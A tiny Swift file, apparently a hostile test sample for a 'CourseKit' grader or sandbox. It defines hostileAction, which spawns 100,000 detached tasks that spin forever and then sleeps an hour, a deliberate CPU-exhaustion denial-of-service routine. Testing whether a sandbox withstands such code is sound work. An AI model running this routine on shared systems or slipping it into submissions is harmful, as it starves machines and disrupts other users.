import CourseKit
import Foundation

func hostileAction(_ x: Vector) {
    for _ in 0..<100_000 {
        Task.detached {
            var spin = 0
            while true { spin &+= 1 }
        }
    }
    sleep(3600)
}
